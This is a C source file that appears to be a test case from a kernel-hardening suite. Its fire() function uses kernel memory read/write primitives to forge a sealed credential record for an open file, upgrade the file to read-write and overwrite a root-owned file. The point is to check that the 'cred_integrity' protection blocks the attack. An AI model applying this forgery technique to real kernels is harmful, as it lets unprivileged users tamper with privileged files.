// SPDX-License-Identifier: GPL-2.0-only
#include "public_file.h"

ATTACK("cred_integrity", "forged_file_seal",
       "cred_integrity: an open file is not the one that was opened",
       "The program forges a sealed record for an open file in ordinary kernel memory.",
       "Who may do what is read from sealed records, and each record says whose it is. "
       "A record that does not lie in sealed memory is none.",
       "Root's file is changed by an ordinary write(2).");

static bool control(void)
{
	return is_ordinary();
}

static bool fire(void)
{
	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
	const uint64_t task = own_task(), flags = member("file.flags"), seal = member("file.seal");
	const uint64_t root_file = file_struct(task, (int)file);
	const uint64_t real = peek(root_file + seal),
		       forged = peek(task + member("task.stack_top")) - 16000;

	for (uint64_t i = 0; i < 40; i += 8)
		poke(forged + i, peek(real + i));
	poke(forged, forged);
	poke32(forged + member("file_seal.access"), 6);
	poke(root_file + seal, forged);
	poke32(root_file + flags, (peek32(root_file + flags) & ~3u) | O_RDWR);
	call4(__NR_pwrite64, file, (long)"X", 1, 0);
	return is_changed(file);
}

static void victim(void)
{
	victim_waits();
}
